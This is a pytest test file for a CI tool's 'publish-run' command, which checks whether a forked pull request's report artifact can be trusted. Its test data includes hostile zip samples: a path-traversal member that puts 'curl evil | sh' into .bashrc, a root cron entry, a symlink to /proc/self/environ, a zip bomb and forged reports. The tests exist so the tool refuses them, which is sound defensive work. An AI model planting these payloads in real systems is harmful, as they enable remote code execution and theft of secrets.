"""``flakewarden publish-run``: a fork's run artifact published from a trusted job, and every
way that artifact can lie: an escaping member, a 1 GB member, a forged report, a pull
request it does not belong to."""

from __future__ import annotations

import io
import json
import stat
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
from helpers.github_emulator import GitHubEmulator
from helpers.github_emulator_actions import zip_directory, zip_members
from helpers.github_fixtures import emulator_env, flaky, passed, write_report
from helpers.hermetic import clean_env

from flakewarden.cli import main
from flakewarden.issues.pr_comment import name_of

SHA = "feedfacefeedfacefeedfacefeedfacefeedface"
ARTIFACT = "flakewarden-report"


def _report_dir(tmp_path: Path, pr: int, tests: list[Any]) -> Path:
    directory = write_report(tmp_path / "report", tests)
    data = json.loads((directory / "report.json").read_text(encoding="utf-8"))
    data["context"] = {"repository": "octo-org/octo-repo", "event": "pull_request", "pr_number": pr}
    (directory / "report.json").write_text(json.dumps(data), encoding="utf-8")
    (directory / "summary.md").write_text("## flakewarden\n", encoding="utf-8")
    return directory


def _fork_run(emu: GitHubEmulator, zipped: bytes, head_sha: str = SHA) -> int:
    run = emu.add_workflow_run(event="pull_request", head_sha=head_sha, branch="feature")
    emu.add_artifact(run["id"], ARTIFACT, zipped)
    return int(run["id"])


def _publish(run_id: int, *extra: str) -> int:
    return main(["publish-run", str(run_id), *extra])


def test_a_fork_runs_report_becomes_the_pull_requests_one_comment(
    emulator: GitHubEmulator,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    emulator_env(monkeypatch, emulator)
    pr = int(emulator.add_pull_request(SHA)["number"])
    tests = [flaky("tests/test_a.py::test_race"), passed("tests/test_a.py::test_ok")]
    run_id = _fork_run(emulator, zip_directory(_report_dir(tmp_path, pr, tests)))
    assert _publish(run_id) == 0
    assert f"created the comment on pull request #{pr} for run {run_id}" in capsys.readouterr().out
    (comment,) = emulator.comments[pr]
    assert name_of(comment["body"]) == "flakewarden"
    assert "0 failed, 1 flaky of 2 tests" in comment["body"]
    # Where the comment says the run was comes from GitHub, not from the artifact.
    assert f"/actions/runs/{run_id})" in comment["body"] and f"`{SHA[:12]}`" in comment["body"]
    assert emulator.leaked_authorization == []  # the download never carried the token
    # The same run published again edits nothing into a second comment.
    assert _publish(run_id) == 0
    assert len(emulator.comments[pr]) == 1


def test_a_run_that_is_not_a_pull_request_publishes_nothing(
    emulator: GitHubEmulator, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    emulator_env(monkeypatch, emulator)
    run = emulator.add_workflow_run(event="push")
    assert _publish(int(run["id"])) == 0
    assert not emulator.requests_for("GET", "/artifacts$")


def test_a_missing_artifact_is_one_warning(
    emulator: GitHubEmulator,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    emulator_env(monkeypatch, emulator)
    run = emulator.add_workflow_run(event="pull_request", head_sha=SHA)
    assert _publish(int(run["id"])) == 0
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and f"has no artifact {ARTIFACT}" in err


HOSTILE = {
    "path traversal": (
        {"../../home/runner/.bashrc": b"curl evil | sh", "report.json": b"{}"},
        "unsafe member name",
    ),
    "absolute path": (
        {"/etc/cron.d/x": b"* * * * * root sh", "report.json": b"{}"},
        "unsafe member name",
    ),
    "backslash": ({"..\\..\\x.bat": b"x", "report.json": b"{}"}, "unsafe member name"),
    "drive letter": ({"C:x.bat": b"x", "report.json": b"{}"}, "unsafe member name"),
    "no report": ({"notes.txt": b"hello"}, "holds no report.json"),
    "two reports": ({"a/report.json": b"{}", "b/report.json": b"{}"}, "holds 2 report.json files"),
    "not json": ({"report.json": b"\xff\xfe not json"}, "not UTF-8"),
    "forged schema": (
        {"report.json": json.dumps({"schema": 99, "tests": []}).encode()},
        "schema 99",
    ),
    "forged tests": (
        {
            "report.json": json.dumps(
                {"schema": 1, "tests": [{"id": 5, "outcome": "pwned"}]}
            ).encode()
        },
        "not a valid flakewarden report",
    ),
}


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_a_hostile_artifact_is_refused_in_one_line_and_nothing_is_written(
    emulator: GitHubEmulator,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    kind: str,
) -> None:
    emulator_env(monkeypatch, emulator)
    pr = int(emulator.add_pull_request(SHA)["number"])
    members, said = HOSTILE[kind]
    run_id = _fork_run(emulator, zip_members(members))
    assert _publish(run_id) == 3
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and said in err, err
    assert emulator.comments[pr] == [] and not [r for r in emulator.log if r.is_write]


def _refused(emu: GitHubEmulator, zipped: bytes, capsys: pytest.CaptureFixture[str]) -> str:
    emu.add_pull_request(SHA)
    assert _publish(_fork_run(emu, zipped)) == 3
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and not [r for r in emu.log if r.is_write]
    return err


def test_a_repeated_an_encrypted_and_a_crowded_zip_are_refused(
    emulator: GitHubEmulator,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    emulator_env(monkeypatch, emulator)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("report.json", b"{}")
        archive.writestr("report.json", b"{}")
    assert "holds 'report.json' twice" in _refused(emulator, buffer.getvalue(), capsys)
    # zipfile writes no encrypted member: set the flag bit in both of the member's headers.
    secret = bytearray(zip_members({"report.json": b"ciphertext"}))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = secret.index(signature) + offset
        secret[at] |= 0x1
    assert "holds an encrypted member" in _refused(emulator, bytes(secret), capsys)
    monkeypatch.setattr("flakewarden.history.artifact_zip.MAX_MEMBERS", 50)
    crowded = zip_members({f"f{n}.txt": b"" for n in range(51)} | {"report.json": b"{}"})
    assert "members, more than 50" in _refused(emulator, crowded, capsys)


def test_a_link_member_is_refused(
    emulator: GitHubEmulator, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    emulator_env(monkeypatch, emulator)
    emulator.add_pull_request(SHA)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("report.json")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/proc/self/environ")
    assert _publish(_fork_run(emulator, buffer.getvalue())) == 3
    assert "holds a link" in capsys.readouterr().err


def test_a_report_naming_another_pull_request_is_refused(
    emulator: GitHubEmulator,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A fork's workflow can write any number into its report: it must not reach another PR."""
    emulator_env(monkeypatch, emulator)
    victim = int(emulator.add_pull_request("0" * 40, head_owner="someone-else")["number"])
    attacker = int(emulator.add_pull_request(SHA)["number"])
    zipped = zip_directory(_report_dir(tmp_path, victim, [flaky("t.py::x")]))
    assert _publish(_fork_run(emulator, zipped)) == 3
    err = capsys.readouterr().err
    assert f"names pull request #{victim}, whose head is 000000000000" in err
    assert emulator.comments[victim] == [] and emulator.comments[attacker] == []
    missing = zip_directory(_report_dir(tmp_path / "m", 999, [flaky("t.py::x")]))
    assert _publish(_fork_run(emulator, missing)) == 3
    assert "names pull request #999, which octo-org/octo-repo does not have" in (
        capsys.readouterr().err
    )


def test_an_artifact_past_the_size_limit_is_not_downloaded(
    emulator: GitHubEmulator, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    emulator_env(monkeypatch, emulator)
    emulator.add_pull_request(SHA)
    run_id = _fork_run(emulator, b"x" * 5000)
    assert _publish(run_id, "--max-bytes", "4096") == 3
    assert "more than 4,096" in capsys.readouterr().err
    assert emulator.blob_log == []


def test_a_gigabyte_member_is_refused_while_it_inflates(
    emulator: GitHubEmulator, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """1 GiB of report.json compresses to about 1 MB: refused in a process that stays small."""
    emulator_env(monkeypatch, emulator)
    emulator.add_pull_request(SHA)
    buffer = io.BytesIO()
    chunk = b"A" * (1 << 20)
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("report.json", "w", force_zip64=True) as member,
    ):
        member.write(b'{"schema": 1, "tests": ["')
        for _ in range(1024):
            member.write(chunk)
    zipped = buffer.getvalue()
    assert len(zipped) < 8 * 1024 * 1024
    run_id = _fork_run(emulator, zipped)
    script = (
        "import resource, sys\n"
        "from flakewarden.cli import main\n"
        f"code = main(['publish-run', '{run_id}'])\n"
        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)\n"
        "sys.exit(code)\n"
    )
    env = {
        **clean_env(),
        "GITHUB_API_URL": emulator.url,
        "GITHUB_TOKEN": emulator.token,
        "GITHUB_REPOSITORY": emulator.full_name,
    }
    done = subprocess.run(
        [sys.executable, "-c", script], env=env, capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 3, done.stdout + done.stderr
    assert "report.json" in done.stderr and done.stderr.count("\n") == 1, done.stderr
    peak_kib = int(done.stdout.split()[-1])
    assert peak_kib < 400 * 1024, peak_kib  # far below the 1 GiB the member claims
    assert emulator.comments == {n: [] for n in emulator.comments}
